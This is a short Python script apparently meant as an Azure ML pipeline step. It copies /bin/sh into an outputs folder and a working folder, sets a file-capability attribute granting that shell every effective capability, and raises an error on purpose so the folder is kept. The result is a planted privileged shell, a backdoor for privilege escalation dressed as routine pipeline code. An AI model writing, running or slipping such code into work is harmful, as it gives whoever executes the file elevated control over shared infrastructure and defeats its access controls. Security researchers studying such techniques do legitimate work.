"""Leaves a program that would have capabilities whoever executes it, in a folder that is kept as it fails."""

import os
import shutil
import struct


def azureml_main(dataframe1=None, dataframe2=None):
    os.makedirs("outputs", exist_ok=True)
    for path in ("outputs/program", "program"):
        shutil.copyfile("/bin/sh", path)
        # struct vfs_cap_data, version 2, effective: all capabilities
        os.setxattr(path, "security.capability", struct.pack("<5I", 0x02000001, 0xFFFFFFFF, 0, 0x1FF, 0))
    raise RuntimeError("so that the folder is kept as it is")
